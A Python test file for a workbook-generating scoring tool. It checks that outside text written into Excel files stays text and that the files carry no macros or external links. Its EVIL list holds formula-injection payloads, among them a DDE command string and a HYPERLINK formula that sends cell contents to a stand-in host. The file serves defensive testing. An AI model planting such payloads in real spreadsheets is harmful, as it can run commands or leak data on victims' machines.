"""No text from outside becomes a formula: not when it is written, not when it is opened, not when it is edited."""

from __future__ import annotations

import re
import zipfile
from collections.abc import Mapping
from itertools import cycle
from pathlib import Path
from typing import Any

import attrs

from dvk_scoring.report.workbook.book import Book
from dvk_scoring.report.workbook.build import build_workbook
from dvk_scoring.report.workbook.write import write_workbook
from dvk_scoring.run import score
from dvk_scoring.scheme.model import Scheme
from dvk_scoring.testing.recalculated import differences
from dvk_scoring.text import Text
from tests.office.recalculated import recalculated
from tests.properties.test_laws import SCHEME, figures_of, made_rows

KNOWN = frozenset(
    """ABS AND AVERAGE COUNT COUNTIF COUNTIFS IF IFERROR INDEX INT ISNUMBER ISTEXT LARGE LN LOG MATCH MAX MAXIFS MEDIAN
    MIN MINIFS MOD N NOT OR ROUND ROUNDDOWN ROUNDUP SIGN SMALL SUM SUMIFS SUMPRODUCT""".split()  # noqa: SIM905
)
EVIL = [
    '=HYPERLINK("http://x.invalid/"&A1,"x")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "=cmd|' /C calc'!A0",
    "{=1+1}",
    "_x003D_1+1",
    "http://x.invalid",
    "internal:A1",
    '"&1+1&"',
    "*",
    ">0",
    "1,5",
    "TRUE",
    "<b>&amp;</b>",
    "'=1",
]


def evil_scheme() -> Scheme:
    """Put such a text wherever a scheme may say something, each text somewhere."""
    texts = cycle(EVIL)

    def titled(declared: Mapping[str, Any], *, numbered: bool = False) -> dict[str, Any]:
        found = {key: attrs.evolve(one, title=Text.same(next(texts))) for key, one in declared.items()}
        return {key: attrs.evolve(one, no=next(texts)) for key, one in found.items()} if numbered else found

    return attrs.evolve(
        SCHEME,
        title=Text.same(next(texts)),
        clusters=titled(SCHEME.clusters),
        sections=titled(SCHEME.sections, numbered=True),
        criteria=titled(SCHEME.criteria, numbered=True),
        bonuses=titled(SCHEME.bonuses, numbered=True),
        penalties=titled(SCHEME.penalties, numbered=True),
        knock_outs=titled(SCHEME.knock_outs),
        classes=titled(SCHEME.classes),
        titles=titled(SCHEME.titles),
    )


def test_texts_stay_texts(tmp_path: Path) -> None:
    """Units and schemes named like formulas: each is read back as it was, and no formula holds any of it."""
    rows = [{**row, "unit": f"{text}{at}"} for at, (text, row) in enumerate(zip(EVIL, made_rows(1, 24), strict=True))]
    result = score(evil_scheme(), figures_of(rows))
    path = tmp_path / "evil.xlsx"
    write_workbook(result, path, "vi")
    built = build_workbook(result, "vi")
    assert [one for text in EVIL for one in _foreign(path, text)] == []
    (found,) = recalculated([path], tmp_path)
    assert {str(row[1]).strip() for row in found["Số liệu"][6:]} == {unit.name.strip() for unit in built.book.units}
    assert list(differences(built, found)) == []


def _foreign(path: Path, text: str) -> list[str]:
    """Give the formulas and names that hold anything of the text."""
    found = []
    needle = re.sub(r"&(amp|quot|lt|gt);", "", text)
    with zipfile.ZipFile(path) as file:
        for name in file.namelist():
            if name.startswith("xl/worksheets/sheet") or name == "xl/workbook.xml":
                content = file.read(name).decode()
                formulas = re.findall(r"<f>([^<]*)</f>|<definedName[^>]*>([^<]*)<|<formula1>([^<]*)<", content)
                found += [one for many in formulas for one in many if len(needle) > 3 and needle in one]
    return found


def test_a_text_that_looks_like_a_formula_is_marked_as_text(tmp_path: Path) -> None:
    """Else editing the cell, without changing anything, would turn it into one."""
    import openpyxl

    path = tmp_path / "x.xlsx"
    for at, text in enumerate(EVIL[:12]):
        rows = [{**row, "unit": f"{text}{index}"} for index, row in enumerate(made_rows(at, 2))]
        write_workbook(score(SCHEME, figures_of(rows)), path, "vi")
        cell = openpyxl.load_workbook(path)["Số liệu"].cell(7, 2)
        assert cell.data_type == "s"
        assert cell.quotePrefix, text


def test_names_of_parameters_are_always_names() -> None:
    """Ids of a scheme become names that no spreadsheet takes for a cell, a function or a formula."""
    for wild in ("a1", "R1C1", "x=1", "a b", "é", "1", "weight.tc1", "=now()"):
        made = Book.name_of(f"limit.{wild}")
        assert re.fullmatch(r"[a-z][a-z0-9_]*\.[a-z0-9_.]+", made)


def test_nothing_but_formulas_and_no_macro(tmp_path: Path) -> None:
    """No macro, no link to other files, no function outside the list that both programs know since 2019."""
    path = tmp_path / "x.xlsx"
    write_workbook(score(SCHEME, figures_of(made_rows(1, 12))), path, "vi")
    assert _functions(path) <= KNOWN
    assert {"COUNTIFS", "ROUND", "IF"} <= _functions(path)
    with zipfile.ZipFile(path) as file:
        names = [name.lower() for name in file.namelist()]
    assert not [name for name in names if "vba" in name or "external" in name]


def _functions(path: Path) -> set[str]:
    used: set[str] = set()
    with zipfile.ZipFile(path) as file:
        for name in file.namelist():
            if name.startswith("xl/worksheets/sheet"):
                for formula in re.findall(r"<f>([^<]*)</f>", file.read(name).decode()):
                    bare = re.sub(r"&quot;[^&]*&quot;|\"[^\"]*\"", "", formula)
                    used |= set(re.findall(r"\b([A-Z][A-Z.]*)\(", bare.replace("_xlfn.", "")))
    return used
